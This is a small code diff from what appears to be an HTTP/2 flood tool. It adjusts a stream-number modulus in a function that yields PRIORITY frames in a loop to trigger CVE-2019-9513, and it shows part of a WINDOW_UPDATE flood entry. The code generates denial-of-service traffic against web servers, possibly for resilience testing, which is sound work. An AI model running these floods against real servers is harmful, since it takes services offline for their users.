@@ -92,7 +92,7 @@ def _(c: Connection) -> Iterator[bytes]:
 @flood("PRIORITY", "CVE-2019-9513")
 def _(c: Connection) -> Iterator[bytes]:
     for stream in _streams():
-        yield frame(Kind.PRIORITY, 0, stream % 1_001, b"\0\0\0\0\x0f")
+        yield frame(Kind.PRIORITY, 0, stream % 1_000, b"\0\0\0\0\x0f")
 
 
 @flood("WINDOW_UPDATE of the connection by one byte")
